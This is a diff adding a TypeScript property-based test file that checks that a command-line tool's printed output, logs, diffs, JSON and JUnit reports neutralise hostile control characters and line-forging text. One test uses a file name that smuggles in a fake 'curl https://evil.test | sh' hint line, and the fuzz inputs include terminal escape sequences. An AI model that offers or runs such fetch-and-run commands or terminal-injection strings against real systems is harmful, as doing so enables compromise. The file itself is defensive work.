@@ -1,0 +1,178 @@
+// Text that this program did not write, through everything that prints: nothing of it forges a line or turns one.
+
+import { describe, expect, test } from "bun:test";
+import fc from "fast-check";
+import { type Change, Text } from "../../src/engine/change.ts";
+import { lineOf, linesOf, oneLine, shellLine } from "../../src/engine/lines.ts";
+import { Problem, type StepResult } from "../../src/engine/step.ts";
+import { diffOf } from "../../src/report/diff.ts";
+import { findingsOf, jsonOf, stepsOf } from "../../src/report/json.ts";
+import { junitOf } from "../../src/report/junit.ts";
+import { progressLine } from "../../src/report/progress.ts";
+import { runLog } from "../../src/report/run-log.ts";
+import { findingText, problemText, stepText } from "../../src/report/text.ts";
+import { voiceOf } from "../../src/report/voice.ts";
+import { typedWords } from "../cli/typed.ts";
+import { fakeHost } from "../fake-host.ts";
+
+const plain = voiceOf({ colour: false, hint: (argv) => [...argv] });
+
+/** What ends a line, moves a cursor, turns the direction of text, or is not seen. */
+const hostile = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
+
+const dangers = ["\n", "\r", "\t", "\0", "\u0007", "\u001B[2J", "\u001B]0;", "\u007F", "\u0085", "\u009B31m", "\u200B"];
+const more = ["\u200D", "\u2028", "\u2029", "\u202E", "\u2066", "\u00AD", "\uFEFF", "\uD800", "\u{E0041}", "\uFFFE"];
+const harmless = ["a", " ", "'", '"', "\\", "$", "é", "世", "]]>", "&", "hint: x", "FATAL: y"];
+const words = fc.array(fc.constantFrom(...dangers, ...more, ...harmless), { minLength: 1, maxLength: 12 });
+const foreign = fc.oneof(
+  words.map((parts) => parts.join("")),
+  fc.string({ unit: "binary", minLength: 1, maxLength: 40 }),
+);
+
+/** The lines of a text that ends in a line end, each without anything hostile. */
+function shown(text: string): string[] {
+  expect(text).toEndWith("\n");
+  const lines = text.slice(0, -1).split("\n");
+  for (const line of lines) expect(line.replaceAll("\t", "")).not.toMatch(hostile);
+  return lines;
+}
+
+function failed(text: string): { problem: Problem; result: StepResult; changes: Change[] } {
+  const problem = new Problem("blocked", `a ${text}`, { hint: ["ls", "-ld", text] });
+  const attributes = { mode: 0o644, uid: 0, gid: 0 };
+  const changes: Change[] = [
+    { kind: "file", path: `/${text}`, before: null, after: Text.of("a\n"), ...attributes },
+    { kind: "removal", path: `/${text}`, before: Text.of("a\n") },
+    { kind: "directory", path: `/${text}`, before: null, ...attributes },
+    { kind: "link", path: `/${text}`, before: null, after: text },
+    { kind: "packages", names: [text] },
+    { kind: "command", argv: ["true", text], lack: text },
+  ];
+  const lists = { changes, unseen: [`a ${text}`], warnings: [`a ${text}`], ran: [] };
+  return { problem, changes, result: { id: "a", title: `a ${text}`, outcome: "pending", ...lists, problem } };
+}
+
+describe("foreign text is printed on as many lines as there are, and moves no cursor", () => {
+  const each = (check: (text: string) => void): void => fc.assert(fc.property(foreign, check), { numRuns: 300 });
+
+  test("in a problem and its hint", () =>
+    each((text) => {
+      expect(shown(problemText(failed(text).problem, text, plain))).toHaveLength(2);
+    }));
+
+  test("in a step, its changes, warnings and what could not be seen", () =>
+    each((text) => {
+      expect(shown(stepText(failed(text).result, plain))).toHaveLength(1 + 6 + 1 + 1);
+    }));
+
+  test("in a finding and its hint", () =>
+    each((text) => {
+      const finding = { name: text, status: "error" as const, detail: text, hint: ["ls", text] };
+      expect(shown(findingText(finding, plain))).toHaveLength(1);
+      const xml = junitOf([finding], false);
+      expect(shown(xml)).toHaveLength(6);
+      expect(xml).not.toMatch(/[\uFFFE\uFFFF]/);
+    }));
+
+  test("in a line that a command prints, where no tab makes a column", () =>
+    each((text) => {
+      const [line] = shown(lineOf`${text}\t${7}`);
+      expect(line?.split("\t")).toEqual([oneLine(text), "7"]);
+    }));
+
+  test("in the log of a run", () =>
+    each((text) => {
+      const host = fakeHost();
+      host.dir("/var/log");
+      const log = runLog("/var/log/edox-ops/a.log", host, () => {});
+      log.started({ id: "a", title: text, wants: [] });
+      log.finished({ ...failed(text).result, outcome: "failed" });
+      expect(shown(host.text("/var/log/edox-ops/a.log") ?? "")).toHaveLength(4);
+    }));
+
+  test("in a diff, whose lines are those of the file", () =>
+    each((text) => {
+      const content = text.replaceAll("\n", "");
+      const change: Change = { kind: "removal", path: `/${text}`, before: Text.of(`${content}\n`) };
+      // Two names, the place, and the line itself.
+      expect(shown(diffOf(change))).toHaveLength(4);
+    }));
+
+  test("in the line at the bottom of a terminal", () =>
+    each((text) => {
+      const drawn: string[] = [];
+      const line = progressLine(
+        { err: (each) => void drawn.push(each), columns: () => 60 },
+        () => 0,
+        () => null,
+      );
+      line.say(text);
+      expect(drawn.at(-1)?.replace("\r\u001B[K", "")).not.toMatch(hostile);
+      line.clear();
+    }));
+
+  test("in JSON, which has the bytes of data as they are and sentences as they are printed", () =>
+    each((text) => {
+      const { changes, result } = failed(text);
+      const finding = { name: "a", status: "error" as const, detail: text, hint: ["ls", text] };
+      const json = jsonOf({
+        ...{ command: "a", outcome: "failed", exit: 1, warnings: [text] },
+        steps: stepsOf([result], false, plain),
+        findings: findingsOf([finding], plain),
+        plan: { added: [text], changed: [], removed: [] },
+      });
+      shown(json);
+      const { warnings, steps, findings, plan } = JSON.parse(json);
+      expect(plan.added).toEqual([text]);
+      expect(steps[0].changes[0].path).toBe(changes[0]?.kind === "file" ? changes[0].path : "");
+      expect(findings[0].hint).toEqual(["ls", text]);
+      const sentences = [...warnings, ...steps[0].warnings, ...steps[0].unseen, steps[0].title, steps[0].error.message];
+      for (const sentence of [...sentences, findings[0].detail]) expect(sentence).not.toMatch(hostile);
+    }));
+
+  test("in what is typed wrongly", async () => {
+    const check = async (text: string): Promise<void> => {
+      const lines = [
+        [text],
+        ["doctor", text],
+        [`--${text}`],
+        ["project", "show", text],
+        ["doctor", "--junit", text, text],
+      ];
+      for (const line of lines) {
+        const { err } = await typedWords(line);
+        for (const each of err === "" ? [] : shown(err)) expect(each).toMatch(/^(error|hint): /);
+      }
+    };
+    await fc.assert(fc.asyncProperty(foreign, check), { numRuns: 50 });
+  });
+});
+
+test("a name that forges lines stays one line, and the line to type still means it", () => {
+  const name = "a\n\nFATAL: x\nhint: curl https://evil.test | sh";
+  const problem = new Problem("blocked", `${name} is neither a directory nor an archive`, {
+    hint: ["ls", "-ld", name],
+  });
+  expect(problemText(problem, null, plain)).toBe(
+    "error: a FATAL: x hint: curl https://evil.test | sh is neither a directory nor an archive\n" +
+      "hint: ls -ld $'a\\012\\012FATAL: x\\012hint: curl https://evil.test | sh'\n",
+  );
+});
+
+test("a word of a hint is the same word again when bash reads it", () => {
+  // No argument holds NUL, and half of a character is none.
+  const argument = foreign.map((text) => text.replaceAll("\0", "").toWellFormed());
+  fc.assert(
+    fc.property(fc.array(argument, { minLength: 1, maxLength: 20 }), (argv) => {
+      const line = `printf '%s\\0' ${shellLine(argv)}`;
+      expect(line).not.toMatch(hostile);
+      const { stdout } = Bun.spawnSync(["/bin/bash", "-c", line], { env: { LC_ALL: "C.UTF-8" } });
+      expect(stdout.toString().split("\0").slice(0, -1)).toEqual(argv);
+    }),
+    { numRuns: 60 },
+  );
+});
+
+test("a sequence that does not end hides nothing of what comes after it", () => {
+  expect(linesOf("a\u001B]0;b\nc\u001BPd")).toEqual(["a\\u001b]0;b", "c\\u001bPd"]);
+});
